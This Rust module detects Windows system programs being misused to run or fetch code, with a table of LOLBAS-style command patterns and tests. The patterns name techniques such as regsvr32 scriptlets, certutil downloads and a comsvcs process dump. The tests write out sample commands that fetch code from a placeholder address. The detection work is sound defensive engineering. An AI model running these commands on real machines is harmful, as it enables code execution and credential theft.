//! Programs of Windows that run or fetch other people's code, and the command lines by which they do it.
//!
//! Facts as the LOLBAS project documents them, in our own words. Each entry names the program, the words that must all
//! occur, and how far such a command is from ordinary use.

use super::command::folded;
use super::paths;

/// How far a command is from ordinary use.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Abuse {
    /// Administrators and installers do it too.
    Unusual,
    /// Hardly anybody but an attacker does it.
    Rare,
    /// The command exists only to run code past its guards.
    Telling,
}

/// A way of abusing a program.
struct Way {
    program: &'static str,
    words: &'static [&'static str],
    /// The code lies where ordinary users write, as the command's own words say.
    from_writable: bool,
    abuse: Abuse,
    says: &'static str,
}

const fn way(
    program: &'static str,
    words: &'static [&'static str],
    from_writable: bool,
    abuse: Abuse,
    says: &'static str,
) -> Way {
    Way { program, words, from_writable, abuse, says }
}

use Abuse::{Rare, Telling, Unusual};

const WAYS: [Way; 36] = [
    way("mshta.exe", &["vbscript:"], false, Telling, "mshta runs a script given on its command line"),
    way("mshta.exe", &["javascript:"], false, Telling, "mshta runs a script given on its command line"),
    way("mshta.exe", &["http"], false, Rare, "mshta runs a page from the network"),
    way("mshta.exe", &[".hta"], true, Rare, "mshta runs an application that lies where users write"),
    way("regsvr32.exe", &["scrobj"], false, Telling, "regsvr32 runs a scriptlet"),
    way("regsvr32.exe", &["/i:http"], false, Telling, "regsvr32 runs a scriptlet from the network"),
    way("regsvr32.exe", &[".dll"], true, Unusual, "regsvr32 registers a library that lies where users write"),
    way("rundll32.exe", &["javascript:"], false, Telling, "rundll32 runs a script given on its command line"),
    way("rundll32.exe", &["comsvcs", "minidump"], false, Telling, "rundll32 dumps a process by comsvcs.dll"),
    way("rundll32.exe", &["advpack.dll", "launchinfsection"], false, Rare, "rundll32 runs a section of an INF file"),
    way("rundll32.exe", &[".dll"], true, Rare, "rundll32 runs a library that lies where users write"),
    way("installutil.exe", &["/logtoconsole=false", "/u"], false, Telling, "InstallUtil runs an uninstaller, unlogged"),
    way("installutil.exe", &["/u"], true, Telling, "InstallUtil runs an uninstaller that lies where users write"),
    way("regasm.exe", &["/u"], true, Telling, "RegAsm runs an unregistration that lies where users write"),
    way("regsvcs.exe", &[".dll"], true, Telling, "RegSvcs runs a library that lies where users write"),
    way("msbuild.exe", &["."], true, Unusual, "MSBuild builds what lies where users write"),
    way("cmstp.exe", &["/s", ".inf"], true, Telling, "CMSTP silently installs a profile that lies where users write"),
    way("cmstp.exe", &["/s", ".inf"], false, Rare, "CMSTP silently installs a profile"),
    way("certutil.exe", &["urlcache", "http"], false, Rare, "certutil fetches a file"),
    way("certutil.exe", &["verifyctl", "http"], false, Rare, "certutil fetches a file"),
    way("certutil.exe", &["decode"], true, Rare, "certutil decodes a file where users write"),
    way("bitsadmin.exe", &["/setnotifycmdline"], false, Telling, "a transfer job is made to run a program"),
    way("bitsadmin.exe", &["/transfer", "http"], true, Rare, "bitsadmin fetches a file to where users write"),
    way("bitsadmin.exe", &["/transfer", "http"], false, Unusual, "bitsadmin fetches a file"),
    way("wmic.exe", &["/format:", "http"], false, Telling, "WMIC runs a style sheet from the network"),
    way("wmic.exe", &["process", "call", "create"], false, Unusual, "WMIC starts a process"),
    way("odbcconf.exe", &["regsvr"], false, Rare, "odbcconf registers a library"),
    way("mavinject.exe", &["/injectrunning"], false, Telling, "mavinject injects a library"),
    way("msxsl.exe", &["."], false, Rare, "msxsl runs a style sheet"),
    way("forfiles.exe", &["/c", "powershell"], false, Rare, "forfiles starts PowerShell"),
    way("pcalua.exe", &["-a"], true, Rare, "pcalua starts what lies where users write"),
    way("control.exe", &[".cpl"], true, Rare, "a control panel item that lies where users write"),
    way("msiexec.exe", &["http", "/q"], false, Rare, "msiexec silently installs from the network"),
    way("hh.exe", &["http"], false, Rare, "the help viewer opens a page from the network"),
    way("netsh.exe", &["add", "helper", ".dll"], false, Rare, "netsh is given a helper library"),
    way("sc.exe", &["binpath", "powershell"], false, Rare, "a service is made to run PowerShell"),
];

/// The worst thing that this command of this program does, with what it is.
#[must_use]
pub fn abuse(image: &str, original: Option<&str>, command: &str) -> Option<(Abuse, &'static str)> {
    let (name, original) = (paths::base_name(image), original.map(str::to_lowercase));
    let is = |program: &str| name == program || original.as_deref() == Some(program);
    if !WAYS.iter().any(|way| is(way.program)) {
        return None;
    }
    let text = folded(command);
    let writable = paths::mentions_writable(&text);
    let fits = |way: &&Way| {
        is(way.program) && (!way.from_writable || writable) && way.words.iter().all(|word| text.contains(word))
    };
    WAYS.iter().filter(fits).map(|way| (way.abuse, way.says)).max_by_key(|(abuse, _)| *abuse)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordinary_commands_of_these_programs_are_no_abuse() {
        let system = |name: &str| format!("C:\\Windows\\System32\\{name}");
        for (name, command) in [
            ("rundll32.exe", "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL"),
            ("regsvr32.exe", "regsvr32 /s \"C:\\Program Files\\Vendor\\a.dll\""),
            ("certutil.exe", "certutil -hashfile a.iso SHA256"),
            ("msbuild.exe", "msbuild.exe D:\\src\\a.sln /t:Build"),
            ("installutil.exe", "InstallUtil.exe \"C:\\Program Files\\Vendor\\Service.exe\""),
            ("wmic.exe", "wmic os get caption"),
            ("cmd.exe", "cmd /c mshta javascript:"),
        ] {
            assert_eq!(abuse(&system(name), None, command), None, "{command}");
        }
    }

    #[test]
    fn abuse_is_seen_under_another_name_and_in_pieces() {
        let renamed = abuse("C:\\Users\\Public\\a.exe", Some("CertUtil.exe"), "a -url^cache -f http://192.0.2.1/x x");
        assert_eq!(renamed.map(|(abuse, _)| abuse), Some(Abuse::Rare));
        let scriptlet =
            abuse("C:\\Windows\\System32\\regsvr32.exe", None, "regsvr32 /s /u /i:http://192.0.2.1/a scrobj.dll");
        assert_eq!(scriptlet.map(|(abuse, _)| abuse), Some(Abuse::Telling));
        let quiet = "InstallUtil.exe /logfile= /LogToConsole=false /U C:\\ProgramData\\a.dll";
        let quiet = abuse("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", None, quiet);
        assert_eq!(quiet.map(|(abuse, _)| abuse), Some(Abuse::Telling));
    }
}
